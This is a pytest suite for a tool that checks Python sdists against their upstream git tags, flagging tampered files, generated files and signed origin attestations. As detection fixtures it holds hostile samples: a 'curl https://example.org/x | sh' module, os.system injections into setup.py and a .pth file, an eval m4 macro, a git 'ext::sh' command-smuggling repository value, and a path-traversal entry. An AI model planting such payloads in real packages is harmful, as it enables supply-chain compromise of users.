"""fromsource origin: real sdists against upstream-like git repositories made from them."""

from __future__ import annotations

import hashlib
import json
import shutil
import tarfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from bootstrap_helpers import project
from fromsource.archives import DEFAULT_LIMITS
from fromsource.attest import dsse
from fromsource.attest.keys import KeyPair, load_public_key
from fromsource.attest.origin import SOURCE_ORIGIN, read_origin
from fromsource.cli import main
from fromsource.errors import OriginError
from fromsource.origin.check import _read_metadata
from fromsource.origin.locate import repository_from_metadata, repository_url
from fromsource.origin.store import find_origin
from origin_helpers import HardLink, git, retar, upstream_repo

DATA = Path(__file__).parent / "data"
SIX = DATA / "six-1.17.0.tar.gz"
PLUGGY = DATA / "pluggy-1.5.0.tar.gz"
INICONFIG = DATA / "iniconfig-2.0.0.tar.gz"
ATTRS = DATA / "attrs-24.3.0.tar.gz"
SCHEMA = json.loads((Path(__file__).parent.parent / "attestations" / "source-origin.schema.json").read_text())


def origin(*args: str | Path) -> Result:
    return CliRunner().invoke(main, ["origin", *map(str, args)])


def report(result: Result) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(result.stdout)
    return loaded


def by_path(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {f["path"]: f for f in data["files"]}


@pytest.fixture(scope="module")
def repos(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("upstream")
    return {
        "six": upstream_repo(SIX, root / "six", tags=["1.17.0"]),
        "pluggy": upstream_repo(PLUGGY, root / "pluggy", tags=["v1.5.0"], drop=["src/pluggy/_version.py"]),
        "iniconfig": upstream_repo(
            INICONFIG,
            root / "iniconfig",
            tags=["iniconfig-v2.0.0"],
            drop=["src/iniconfig/_version.py"],
            annotated=False,
        ),
        "attrs": upstream_repo(ATTRS, root / "attrs", tags=["24.3.0"]),
    }


# ---------------------------------------------------------------- clean sdists match


def test_setuptools_sdist_with_egg_info_and_egg_info_block_matches(repos: dict[str, Path]) -> None:
    assert "[egg_info]" not in (repos["six"] / "setup.cfg").read_text()
    result = origin(SIX, "--repo", repos["six"], "--ref", "1.17.0", "--json")
    assert result.exit_code == 0, result.output
    data = report(result)
    assert data["matches"] is True and data["findings"] == []
    files = by_path(data)
    assert files["setup.cfg"] == {**files["setup.cfg"], "status": "generated", "generator": "setuptools"}
    assert {p for p, f in files.items() if f["status"] == "generated"} == {
        "PKG-INFO",
        "setup.cfg",
        "six.egg-info/PKG-INFO",
        "six.egg-info/SOURCES.txt",
        "six.egg-info/dependency_links.txt",
        "six.egg-info/top_level.txt",
    }
    assert files["six.py"]["status"] == "identical"
    assert data["commit"] == git(repos["six"], "rev-parse", "1.17.0^{commit}").strip()
    assert data["counts"]["identical"] == 10  # 16 files, 6 generated


def test_setuptools_scm_version_file_matches_and_the_tag_is_found(repos: dict[str, Path]) -> None:
    result = origin(PLUGGY, "--repo", repos["pluggy"], "--json")  # no --ref: v1.5.0 found
    assert result.exit_code == 0, result.output
    data = report(result)
    assert data["ref"] == "refs/tags/v1.5.0"
    version_file = by_path(data)["src/pluggy/_version.py"]
    assert (version_file["status"], version_file["generator"]) == ("generated", "setuptools-scm")
    assert by_path(data)["src/pluggy.egg-info/requires.txt"]["status"] == "generated"


def test_setuptools_scm_version_file_named_only_in_setup_py(tmp_path: Path) -> None:
    repo = upstream_repo(PLUGGY, tmp_path / "pluggy", tags=["1.5.0"], drop=["src/pluggy/_version.py"])
    pyproject = repo / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('write_to = "src/pluggy/_version.py"', ""))
    git(repo, "commit", "-q", "-am", "only setup.py names the version file")
    git(repo, "tag", "-f", "1.5.0")
    assert "write_to" in (repo / "setup.py").read_text()
    result = origin(PLUGGY, "--repo", repo, "--json")
    assert result.exit_code == 1  # pyproject.toml now differs from the sdist's
    data = report(result)
    assert [f["path"] for f in data["findings"]] == ["pyproject.toml"]
    version_file = by_path(data)["src/pluggy/_version.py"]
    assert (version_file["status"], version_file["generator"]) == ("generated", "setuptools-scm")


def test_hatch_vcs_version_file_ignored_by_git_matches(repos: dict[str, Path]) -> None:
    repo = repos["iniconfig"]
    git(repo, "check-ignore", "-q", "src/iniconfig/_version.py")  # raises unless ignored
    result = origin(INICONFIG, "--repo", repo, "--json")  # lightweight tag iniconfig-v2.0.0
    assert result.exit_code == 0, result.output
    data = report(result)
    assert data["ref"] == "refs/tags/iniconfig-v2.0.0"
    version_file = by_path(data)["src/iniconfig/_version.py"]
    assert (version_file["status"], version_file["generator"]) == ("generated", "hatch-vcs")
    # The tree's tests and CI files are not shipped: fine, and counted.
    assert data["counts"]["tree-only"] == 0 and data["counts"]["generated"] == 2


def test_tree_files_missing_from_the_sdist_are_fine(repos: dict[str, Path], tmp_path: Path) -> None:
    smaller = retar(SIX, tmp_path / "six-1.17.0.tar.gz", {"test_six.py": None, "CHANGES": None})
    result = origin(smaller, "--repo", repos["six"], "--json")
    assert result.exit_code == 0, result.output
    assert report(result)["treeOnly"] == ["CHANGES", "test_six.py"]


def test_human_output_names_generators(repos: dict[str, Path]) -> None:
    result = origin(SIX, "--repo", repos["six"])
    assert result.exit_code == 0, result.output
    assert "generated  setup.cfg  (setuptools)" in result.stdout
    assert "matches" in result.stdout


# ---------------------------------------------------------------- tampered sdists do not


_MODULE = b"import os\nos.system('curl https://example.org/x | sh')\n"


def _hooks_edit() -> bytes:
    with tarfile.open(PLUGGY) as tar:
        text = tar.extractfile("pluggy-1.5.0/src/pluggy/_hooks.py").read().decode()  # type: ignore[union-attr]
    line = next(ln for ln in text.splitlines() if ln.strip().startswith("return "))
    return text.replace(line, line + "; __import__('os').system('id')", 1).encode()


TAMPERED = {
    "extra module": (
        {"src/pluggy/_telemetry.py": _MODULE},
        "src/pluggy/_telemetry.py",
        "not-in-tree",
        "code the tagged tree lacks",
    ),
    "modified build script": (
        {"setup.py": b"from setuptools import setup\nimport os\nos.system('id')\nsetup()\n"},
        "setup.py",
        "modified",
        "code changed",
    ),
    "edited package line": (
        {"src/pluggy/_hooks.py": _hooks_edit()},
        "src/pluggy/_hooks.py",
        "modified",
        "code changed",
    ),
    "version file holding code": (
        {"src/pluggy/_version.py": b"__version__ = version = '1.5.0'\n" + _MODULE},
        "src/pluggy/_version.py",
        "not-in-tree",
        "holds code",
    ),
    "extra m4 outside the package": (
        {"m4/build-to-host.m4": b"dnl serial 3\nAC_DEFUN([gl_BUILD_TO_HOST], [eval $x])\n"},
        "m4/build-to-host.m4",
        "not-in-tree",
        "code the tagged tree lacks",
    ),
    "extra pth outside the package": (
        {"src/pluggy-init.pth": b"import os; os.system('id')\n"},
        "src/pluggy-init.pth",
        "not-in-tree",
        ".pth file runs code",
    ),
    "egg-info file setuptools never writes": (
        {"src/pluggy.egg-info/hooks.py": _MODULE},
        "src/pluggy.egg-info/hooks.py",
        "not-in-tree",
        "setuptools writes no hooks.py",
    ),
    "setup.cfg changed beyond [egg_info]": (
        {"setup.cfg": b"[metadata]\nname = pluggy\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n"},
        "setup.cfg",
        "modified",
        "other than [egg_info] differ",
    ),
}


@pytest.mark.parametrize("case", sorted(TAMPERED))
def test_tampered_sdist_fails_with_its_reason(case: str, repos: dict[str, Path], tmp_path: Path) -> None:
    changes, path, status, reason = TAMPERED[case]
    sdist = retar(PLUGGY, tmp_path / "pluggy-1.5.0.tar.gz", changes)
    result = origin(sdist, "--repo", repos["pluggy"], "--ref", "v1.5.0", "--json")
    assert result.exit_code == 1, result.output
    data = report(result)
    assert data["matches"] is False
    assert [f["path"] for f in data["findings"]] == [path]
    finding = data["findings"][0]
    assert finding["status"] == status and reason in finding["reason"]
    human = origin(sdist, "--repo", repos["pluggy"])
    assert human.exit_code == 1 and path in human.stdout and "DOES NOT MATCH" in human.stdout


def test_a_modified_module_shows_its_diff(repos: dict[str, Path], tmp_path: Path) -> None:
    sdist = retar(PLUGGY, tmp_path / "pluggy-1.5.0.tar.gz", {"src/pluggy/_hooks.py": _hooks_edit()})
    result = origin(sdist, "--repo", repos["pluggy"], "--json")
    diff = report(result)["findings"][0]["diff"]
    assert diff.startswith("--- tree/src/pluggy/_hooks.py\n+++ sdist/src/pluggy/_hooks.py\n")
    assert "+" in diff and "__import__('os').system('id')" in diff


# ---------------------------------------------------------------- export-subst


def test_export_subst_file_as_git_archive_writes_it_matches(repos: dict[str, Path], tmp_path: Path) -> None:
    repo = repos["attrs"]
    assert "export-subst" in (repo / ".gitattributes").read_text()
    archive = tmp_path / "a.tar"
    git(repo, "archive", "--format=tar", "-o", str(archive), "24.3.0", ".git_archival.txt")
    with tarfile.open(archive) as tar:
        substituted = tar.extractfile(".git_archival.txt").read()  # type: ignore[union-attr]
    assert b"$Format" not in substituted
    sdist = retar(ATTRS, tmp_path / "attrs-24.3.0.tar.gz", {".git_archival.txt": substituted})
    result = origin(sdist, "--repo", repo, "--json")
    assert result.exit_code == 0, result.output
    entry = by_path(report(result))[".git_archival.txt"]
    assert (entry["status"], entry["generator"]) == ("generated", "git archive export-subst")

    smuggled = substituted + b"extra: line\n"
    (tmp_path / "bad").mkdir()
    bad = retar(ATTRS, tmp_path / "bad" / "attrs-24.3.0.tar.gz", {".git_archival.txt": smuggled})
    result = origin(bad, "--repo", repo, "--json")
    assert result.exit_code == 1
    assert "beyond its $Format$ placeholders" in report(result)["findings"][0]["reason"]


# ---------------------------------------------------------------- unusable input: exit 2


def test_missing_tag_exits_2_listing_what_was_tried(repos: dict[str, Path], tmp_path: Path) -> None:
    repo = tmp_path / "six"
    shutil.copytree(repos["six"], repo)
    git(repo, "tag", "-d", "1.17.0")
    git(repo, "tag", "1.16.0")
    result = origin(SIX, "--repo", repo)
    assert result.exit_code == 2
    assert "no tag for six 1.17.0: tried v1.17.0, 1.17.0, six-1.17.0, six-v1.17.0" in result.stderr
    assert "Traceback" not in result.output
    named = origin(SIX, "--repo", repo, "--ref", "1.17.0")
    assert named.exit_code == 2
    assert named.stderr.startswith("error: ") and "1.17.0" in named.stderr, named.stderr


def test_ambiguous_tags_exit_2(repos: dict[str, Path], tmp_path: Path) -> None:
    repo = tmp_path / "six"
    shutil.copytree(repos["six"], repo)
    git(repo, "commit", "-q", "--allow-empty", "-m", "later")
    git(repo, "tag", "v1.17.0")
    result = origin(SIX, "--repo", repo)
    assert result.exit_code == 2 and "ambiguous tags for six 1.17.0" in result.stderr
    # Naming the ref settles it; a commit id works as a ref too.
    assert origin(SIX, "--repo", repo, "--ref", "1.17.0").exit_code == 0
    commit = git(repo, "rev-parse", "1.17.0^{commit}").strip()
    assert origin(SIX, "--repo", repo, "--ref", commit).exit_code == 0


@pytest.mark.parametrize(
    "repo", ["{tmp}/nowhere", "{tmp}", "ssh://example.org/x.git", "ext::sh -c touch% {tmp}/pwned"]
)
def test_unusable_repository_exits_2(repo: str, tmp_path: Path) -> None:
    result = origin(SIX, "--repo", repo.format(tmp=tmp_path))
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("error: ") and "Traceback" not in result.output
    assert not (tmp_path / "pwned").exists()


def test_hostile_sdist_is_refused_by_the_build_reader(repos: dict[str, Path], tmp_path: Path) -> None:
    sdist = retar(SIX, tmp_path / "six-1.17.0.tar.gz", {"../../evil.py": b"x = 1\n"})
    result = origin(sdist, "--repo", repos["six"])
    assert result.exit_code == 2 and "'..'" in result.stderr


def test_no_repository_in_pkg_info_exits_2(tmp_path: Path) -> None:
    sdist = project(tmp_path, "app")  # PKG-INFO without any URL
    result = origin(sdist)
    assert result.exit_code == 2
    assert "PKG-INFO names no repository on a known code host" in result.stderr
    assert "--repo" in result.stderr


# ---------------------------------------------------------------- repository from PKG-INFO


@pytest.mark.parametrize(
    ("sdist", "expected"),
    [
        (SIX, "https://github.com/benjaminp/six"),  # Home-page
        (PLUGGY, "https://github.com/pytest-dev/pluggy"),
        (INICONFIG, "https://github.com/pytest-dev/iniconfig"),  # Project-URL Homepage
        (DATA / "markupsafe-3.0.2.tar.gz", "https://github.com/pallets/markupsafe"),  # Source, "/"
        (ATTRS, "https://github.com/python-attrs/attrs"),  # labelled GitHub
        (DATA / "charset_normalizer-3.4.1.tar.gz", "https://github.com/jawah/charset_normalizer"),  # Code
    ],
)
def test_repository_from_real_pkg_info(sdist: Path, expected: str) -> None:
    meta = _read_metadata(sdist, DEFAULT_LIMITS)
    assert repository_from_metadata(meta.project_urls, meta.home_page) == expected


def test_repository_urls_on_code_hosts() -> None:
    assert repository_url("https://github.com/psf/requests/tree/main") == "https://github.com/psf/requests"
    assert repository_url("https://gitlab.com/a/b/c/-/tree/v1") == "https://gitlab.com/a/b/c"
    assert repository_url("https://codeberg.org/x/y.git") == "https://codeberg.org/x/y"
    assert repository_url("https://example.org/psf/requests") is None
    assert repository_url("git+ssh://github.com/psf/requests") is None
    with pytest.raises(OriginError, match=r"looked at https://docs\.example\.org"):
        repository_from_metadata({"Source": "https://docs.example.org/x"}, None)


# ---------------------------------------------------------------- the attestation


def test_key_writes_a_signed_origin_attestation(
    repos: dict[str, Path], tmp_path: Path, keypair: KeyPair
) -> None:
    ws = tmp_path / "ws"
    result = origin(PLUGGY, "--repo", repos["pluggy"], "--key", keypair.private_path, "-w", ws, "--json")
    assert result.exit_code == 0, result.output
    data = report(result)
    path = Path(data["attestation"])
    assert path == ws / "attestations" / "pluggy-1.5.0.tar.gz.origin.intoto.jsonl"
    key = load_public_key(keypair.public_path)
    verified = dsse.verify(dsse.parse_envelopes(path.read_bytes(), path.name)[0], [key])
    assert verified.statement["predicateType"] == SOURCE_ORIGIN
    claim, problems = read_origin(verified.statement)
    assert problems == [] and claim is not None
    assert (claim.sdist_sha256, claim.commit, claim.matches) == (
        data["sdist"]["sha256"],
        data["commit"],
        True,
    )
    assert claim.files_sha256 == data["filesDigest"]
    import jsonschema  # not at collection: where rfc3987-syntax is installed that takes a second

    jsonschema.validate(verified.statement["predicate"], SCHEMA)
    generated = verified.statement["predicate"]["generated"]
    assert {
        "path": "src/pluggy/_version.py",
        "generator": "setuptools-scm",
        "digest": {"sha256": by_path(data)["src/pluggy/_version.py"]["sha256"]},
    } in generated
    assert find_origin([ws / "attestations"], PLUGGY.name, data["sdist"]["sha256"], [key]).claim == claim
    # Another sdist of that name, or a forged envelope, finds nothing.
    assert find_origin([ws / "attestations"], PLUGGY.name, "0" * 64, [key]).claim is None
    envelope = json.loads(path.read_text())
    envelope["payload"] = envelope["payload"][:-4] + "AAA="
    path.write_text(json.dumps(envelope) + "\n")
    found = find_origin([ws / "attestations"], PLUGGY.name, data["sdist"]["sha256"], [key])
    assert found.claim is None and found.problems


# ---------------------------------------------------------------- generators, one by one


VERSIONEER_SHORT = b"""
# This file was generated by 'versioneer.py' (0.29) from
# revision-control system data, or from the parent directory name of an
# unpacked source archive. Distribution tarballs contain a pre-generated copy
# of this file.

import json

version_json = \'\'\'
{
 "date": "2024-01-01T00:00:00+0000",
 "dirty": false,
 "error": null,
 "full-revisionid": "fc496c2abadbd65c87bc4f887d1f0419c34d88f1",
 "version": "1.5.0"
}
\'\'\'  # END VERSION_JSON


def get_versions():
    return json.loads(version_json)
"""


def test_versioneer_short_form_is_generated_and_anything_more_is_not() -> None:
    from fromsource.origin.generated import Generators

    generators = Generators(
        name="pluggy",
        version="1.5.0",
        pyproject=None,
        setup_cfg=b"[versioneer]\nVCS = git\nversionfile_source = src/pluggy/_version.py\n",
    )
    path = "src/pluggy/_version.py"
    assert generators.check(path, VERSIONEER_SHORT) is not None
    assert generators.check(path, VERSIONEER_SHORT).problem is None  # type: ignore[union-attr]
    extra = VERSIONEER_SHORT.replace(
        b"    return json.loads(version_json)",
        b"    __import__('os').system('id')\n    return json.loads(version_json)",
    )
    assert "does more than" in (generators.check(path, extra).problem or "")  # type: ignore[union-attr]
    other = VERSIONEER_SHORT.replace(b'"version": "1.5.0"', b'"version": "9.9"')
    assert "says version '9.9'" in (generators.check(path, other).problem or "")  # type: ignore[union-attr]
    imports = VERSIONEER_SHORT.replace(b"import json\n", b"import json\nimport subprocess\n")
    assert "imports more than json" in (generators.check(path, imports).problem or "")  # type: ignore[union-attr]
    # Not configured as versioneer's file: no generator claims it.
    assert generators.check("src/pluggy/other.py", VERSIONEER_SHORT) is None


def test_origin_reader_is_strict(repos: dict[str, Path], tmp_path: Path, keypair: KeyPair) -> None:
    ws = tmp_path / "ws"
    result = origin(SIX, "--repo", repos["six"], "--key", keypair.private_path, "-w", ws, "--json")
    path = Path(report(result)["attestation"])
    statement = json.loads(dsse.parse_envelopes(path.read_bytes(), path.name)[0].payload)
    assert read_origin(statement)[1] == []
    statement["predicate"]["extra"] = 1
    statement["predicate"]["commit"] = "HEAD"
    statement["predicate"]["findings"] = [{"path": "x.py", "status": "not-in-tree", "reason": ""}]
    claim, problems = read_origin(statement)
    assert claim is None
    assert problems == [
        "predicate.extra: unknown field",
        "predicate.commit is not a commit id",
        "predicate.matches is true but findings are listed",
    ]
    # The full report beside it re-derives the signed per-file digest.
    full = json.loads((ws / "attestations" / "six-1.17.0.tar.gz.origin.json").read_text())
    rows = [[f["path"], f["sha256"], f["status"], f.get("generator", "")] for f in full["files"]]
    encoded = json.dumps(rows, separators=(",", ":"), ensure_ascii=False).encode()
    assert hashlib.sha256(encoded).hexdigest() == full["filesDigest"]


@pytest.mark.parametrize("as_url", [False, True])
def test_a_sha256_repository_matches(as_url: bool, tmp_path: Path) -> None:
    repo = upstream_repo(SIX, tmp_path / "six", tags=["1.17.0"], object_format="sha256")
    result = origin(SIX, "--repo", repo.as_uri() if as_url else repo, "--json")
    assert result.exit_code == 0, result.output
    data = report(result)
    assert data["objectFormat"] == "sha256" and len(data["commit"]) == 64
    assert data["counts"]["identical"] == 10


def test_a_url_repository_is_fetched_shallow(repos: dict[str, Path]) -> None:
    # file:// goes through `git fetch --depth 1` of that ref only, as a code host would.
    result = origin(SIX, "--repo", repos["six"].as_uri(), "--json")
    assert result.exit_code == 0, result.output
    assert report(result)["repository"] == repos["six"].as_uri()


def test_hostile_names_cannot_drive_the_terminal(repos: dict[str, Path], tmp_path: Path) -> None:
    sdist = retar(SIX, tmp_path / "six-1.17.0.tar.gz", {"evil\x1b[2J.py": b"x = 1\n"})
    result = origin(sdist, "--repo", repos["six"])
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "evil\\x1b[2J.py" in result.stdout


def test_real_packaging_sdist_ships_files_no_git_tree_holds(tmp_path: Path) -> None:
    # packaging 24.2 was uploaded with a local tests/.pytest_cache/, whose own .gitignore ("*")
    # keeps it out of any commit: six files that are in the sdist and in no tree.
    sdist = DATA / "packaging-24.2.tar.gz"
    repo = upstream_repo(sdist, tmp_path / "packaging", tags=["24.2"])
    result = origin(sdist, "--repo", repo, "--json")
    assert result.exit_code == 1
    findings = report(result)["findings"]
    assert {f["path"].rsplit("/", 1)[0] for f in findings} == {
        "tests/.pytest_cache",
        "tests/.pytest_cache/v/cache",
    }
    assert len(findings) == 6
    assert all(f["reason"] == "the tagged tree lacks this file" for f in findings)


def test_links_are_content(tmp_path: Path) -> None:
    repo = upstream_repo(SIX, tmp_path / "six", tags=["1.17.0"])
    (repo / "README").symlink_to("README.rst")
    git(repo, "add", "README")
    git(repo, "commit", "-q", "-m", "a link")
    git(repo, "tag", "-f", "1.17.0")
    readme = (repo / "README.rst").read_bytes()
    # The tree's link shipped as a link, or as a copy of its target: both are the tree.
    for shipped in (Path("README.rst"), readme):
        sdist = retar(SIX, tmp_path / "six-1.17.0.tar.gz", {"README": shipped})
        result = origin(sdist, "--repo", repo, "--json")
        assert result.exit_code == 0, result.output
        assert by_path(report(result))["README"]["status"] == "identical"
    # setup.py swapped for a link to another file runs that file instead: a finding.
    sdist = retar(SIX, tmp_path / "six-1.17.0.tar.gz", {"setup.py": Path("documentation/conf.py")})
    result = origin(sdist, "--repo", repo, "--json")
    assert result.exit_code == 1
    (finding,) = report(result)["findings"]
    assert finding == {
        **finding,
        "path": "setup.py",
        "status": "modified",
        "reason": "a symlink to documentation/conf.py where the tagged tree has other content",
    }
    extra = retar(SIX, tmp_path / "six-1.17.0.tar.gz", {"six_link.py": Path("six.py")})
    (finding,) = report(origin(extra, "--repo", repo, "--json"))["findings"]
    assert finding["status"] == "not-in-tree" and "symlink to six.py" in finding["reason"]
    # A tar hard link is the file it links to: right where the tree has those bytes only.
    shutil.copy(repo / "LICENSE", repo / "COPYING")
    git(repo, "add", "COPYING")
    git(repo, "commit", "-q", "-m", "a copy")
    git(repo, "tag", "-f", "1.17.0")
    linked = retar(SIX, tmp_path / "six-1.17.0.tar.gz", {"COPYING": HardLink("LICENSE")})
    result = origin(linked, "--repo", repo, "--json")
    assert result.exit_code == 0, result.output
    assert by_path(report(result))["COPYING"]["status"] == "identical"
    linked = retar(SIX, tmp_path / "six-1.17.0.tar.gz", {"COPYING": HardLink("six.py")})
    (finding,) = report(origin(linked, "--repo", repo, "--json"))["findings"]
    assert finding["path"] == "COPYING" and "hard link to six.py" in finding["reason"]
